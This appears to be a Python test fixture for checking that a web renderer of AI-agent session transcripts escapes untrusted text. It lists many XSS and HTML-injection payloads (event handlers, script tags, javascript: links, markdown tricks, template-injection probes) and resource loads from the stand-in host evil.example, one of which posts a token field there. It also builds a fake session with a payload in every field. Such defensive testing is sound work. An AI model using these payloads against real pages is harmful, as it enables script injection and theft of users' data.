"""Strings that would run as a script, or fetch something, if any place of a page were careless with them."""

from typing import Any

__all__ = ["HOSTILE", "MARK", "hostile_session"]

MARK = "window.__pwned=1"
"""What each of them tries to do; some ask another host for a file instead."""

ELSEWHERE = "https://evil.example/x"

_HANDLERS = [
    f"<{tag} {handler}={quote}{MARK}{quote}>{body}"
    for tag, handler, body in (
        ("img src=x", "onerror", ""),
        ("svg", "onload", ""),
        ("body", "onload", ""),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("details open", "ontoggle", "<summary>x</summary></details>"),
        ("video src=x", "onerror", "</video>"),
        ("audio src=x", "onerror", "</audio>"),
        ("video", "onloadstart", "<source src=x></video>"),
        ("marquee", "onstart", "x</marquee>"),
        ("div style='animation:x'", "onanimationstart", "</div>"),
        ("iframe src=about:blank", "onload", "</iframe>"),
        ("object data=x", "onerror", "</object>"),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("style", "onload", "</style>"),
        ("script src=x", "onerror", "</script>"),
        ("p", "onpointerover", "x</p>"),
        ("div tabindex=1 autofocus", "onfocusin", "x</div>"),
    )
    for quote in ("", '"')
]

_ELEMENTS = [
    f"<script>{MARK}</script>",
    f"<ScRiPt>{MARK}</sCrIpT>",
    f"<script\n>{MARK}</script\n>",
    f"<script/x>{MARK}</script>",
    f"<<script>{MARK}//<</script>",
    f"<scr<script>ipt>{MARK}</scr</script>ipt>",
    f"\x00<script>{MARK}</script>",
    f"<script type=module>{MARK}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,window.__pwned=1></script>",
    f"</script><script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"</title><script>{MARK}</script>",
    f"</textarea><script>{MARK}</script>",
    f"</code></pre><script>{MARK}</script>",
    f"--><script>{MARK}</script><!--",
    f"]]><script>{MARK}</script>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><script href=data:,{MARK}></script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<svg><set attributeName=onmouseover to={MARK}>",
    f"<svg><foreignObject><script>{MARK}</script></foreignObject></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{MARK}'/>#x\"/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={MARK}></style></table></mtext></math>",
    f'<math><mi xlink:href="javascript:{MARK}">x</mi></math>',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}>">',
    f"<template><script>{MARK}</script></template>",
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f"<iframe src=javascript:{MARK}></iframe>",
    f"<embed src=javascript:{MARK}>",
    f"<object data=javascript:{MARK}></object>",
    f"<form action=javascript:{MARK}><button autofocus>x</button></form>",
    f"<form><button formaction=javascript:{MARK}>x</button></form>",
    "<form action=https://evil.example/x><input name=token></form>",
    f"<a href=javascript:{MARK}>x</a>",
    f'<a href="java\tscript:{MARK}">x</a>',
    f'<a href=" &#1;javascript:{MARK}">x</a>',
    f'<a href="&#106;avascript:{MARK}">x</a>',
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    f'<meta http-equiv=refresh content="0;url=javascript:{MARK}">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    "<img src=https://evil.example/x>",
    '<img srcset="https://evil.example/x 1x">',
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<video poster=https://evil.example/x></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<input type=image src=https://evil.example/x>",
    "<body background=https://evil.example/x>",
    "<table background=https://evil.example/x><tr><td>x</table>",
    "<object data=https://evil.example/x></object>",
    "<iframe src=https://evil.example/></iframe>",
]

_ATTRIBUTES = [
    f'" onmouseover="{MARK}" x="',
    f"' onmouseover='{MARK}' x='",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f'" autofocus onfocus="{MARK}',
    f"` onload={MARK} `",
    f'x" style="animation:a" onanimationstart="{MARK}',
    f'" href="javascript:{MARK}" x="',
    f'\\"><img src=x onerror={MARK}>',
    f"&quot;><img src=x onerror={MARK}>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"&#60;script&#62;{MARK}&#60;/script&#62;",
    f"%3Cscript%3E{MARK}%3C/script%3E",
    f"\\u003cscript\\u003e{MARK}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{MARK}+ADw-/script+AD4-",
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ 7*7 }}${7*7}#{7*7}<%= 7*7 %>",
]

_MARKDOWN = [
    f"[x](javascript:{MARK})",
    f"[x](JaVaScRiPt:{MARK})",
    f"[x](java\nscript:{MARK})",
    f"[x](&#x6A;avascript:{MARK})",
    f"[x](javascript&colon;{MARK})",
    f"[x](data:text/html,<script>{MARK}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](vbscript:{MARK})",
    f"[x](<javascript:{MARK}>)",
    f"[x]: javascript:{MARK}\n\n[x]",
    f"<javascript:{MARK}>",
    f"![x](javascript:{MARK})",
    "![x](https://evil.example/x.png)",
    f'![x](https://evil.example/x.png" onerror="{MARK})',
    f'![" onerror="{MARK}](x)',
    f'[x](https://ok.example "\\" onmouseover={MARK} \\"")',
    f'[x](https://ok.example/"onmouseover="{MARK})',
    f'```"><script>{MARK}</script>\ncode\n```',
    f"```html\n<script>{MARK}</script>\n```",
    f"`<script>{MARK}</script>`",
    f"| <script>{MARK}</script> |\n|---|\n| <img src=x onerror={MARK}> |",
    f"# <script>{MARK}</script>",
    f"> <img src=x onerror={MARK}>",
    f"https://ok.example/<script>{MARK}</script>",
    f'https://ok.example/"onmouseover={MARK}',
    f'<https://ok.example/" onmouseover={MARK}>',
    f"[![x](javascript:{MARK})](javascript:{MARK})",
    "[x](//evil.example/ 'y')",
]

HOSTILE = [*_HANDLERS, *_ELEMENTS, *_ATTRIBUTES, *_MARKDOWN]


def hostile_session(text: str, number: int) -> list[dict[str, Any]]:
    """Return a session that has ``text`` in every place where a session has text."""
    m, p = f"msg_{number}", f"prt_{number}"
    tools = [
        "bash",
        "read",
        "write",
        "edit",
        "grep",
        "list",
        "webfetch",
        "todowrite",
        "task",
        "question",
        text,
    ]
    given = {
        **dict.fromkeys(
            ("command", "filePath", "content", "oldString", "pattern", "path", "url", "query"), text
        ),
        **dict.fromkeys(("description", "prompt", "subagent_type", text), text),
        "newString": text + " ",
        "todos": [{"content": text, "status": text}],
        "questions": [{"question": text, "options": [{"label": text}]}],
    }
    state = {
        "status": "completed",
        "title": text,
        "input": given,
        "output": text,
        "metadata": {"output": text, "diagnostics": {text: [{"message": text}]}, "answers": [[text]]},
        "time": {"start": 1, "end": 2},
        "attachments": [{"type": "file", "url": text, "mime": text, "filename": text}],
    }
    patch = f"--- a/{text}\n+++ b/{text}\n@@ -1 +1 @@ {text}\n-{text}\n+{text} \n"
    parts: list[dict[str, Any]] = [
        {"type": "text", "text": text},
        {"type": "text", "text": f"$\\text{{{text}}}_1$\n\n$$\n{text}\n$$\n\n\\[{text}\\] \x1b[31m{text}"},
        {"type": "text", "text": f"[^1] [^{text}]\n\n[^1]: {text}\n[^{text}]: {text}\n\n> [!NOTE]\n> {text}"},
        {"type": "text", "text": text, "synthetic": True},
        {"type": "reasoning", "text": text},
        {"type": "file", "url": text, "filename": text, "mime": text, "source": {"path": text}},
        {"type": "file", "url": "data:text/plain," + text, "filename": text, "mime": "text/plain"},
        {"type": "file", "url": "data:image/png;base64," + text, "filename": text},
        {"type": "patch", "files": [text], "hash": text},
        {"type": "agent", "name": text},
        {"type": "subtask", "prompt": text, "description": text, "agent": text},
        {"type": "retry", "attempt": 1, "error": {"name": text, "data": {"message": text}}},
        {"type": "step-finish", "reason": text},
        {"type": "snapshot", "snapshot": text},
        {"type": text, text: text},
        *({"type": "tool", "tool": name, "state": state} for name in tools),
        {"type": "tool", "tool": "edit", "state": {**state, "metadata": {"diff": patch}}},
        {"type": "tool", "tool": "bash", "state": {"status": "error", "error": text, "input": {}}},
    ]
    error = {"name": text, "data": {"message": text}}
    assistant = {"role": "assistant", "modelID": text, "agent": text, "error": error}
    return [
        {"type": "session", "data": {"id": f"s{number}", "title": text, "directory": text, "version": text}},
        {"type": "model", "data": [{"id": text, "name": text}]},
        {"type": "message", "data": {"id": f"{m}u", "role": "user", "agent": text}},
        {"type": "part", "data": {"id": f"{p}u", "messageID": f"{m}u", "type": "text", "text": text}},
        {"type": "message", "data": {"id": f"{m}x" + text, "role": text}},
        {
            "type": "part",
            "data": {"id": f"{p}x" + text, "messageID": f"{m}x" + text, "type": "text", "text": text},
        },
        {"type": "message", "data": {"id": f"{m}a", **assistant}},
        *(
            {"type": "part", "data": {"id": f"{p}_{index}", "messageID": f"{m}a", **each}}
            for index, each in enumerate(parts)
        ),
        {"type": "session_diff", "data": [{"file": text, "patch": patch}]},
        {"type": "session_diff", "data": [{"file": text + "2", "before": text, "after": text + "\n" + text}]},
    ]
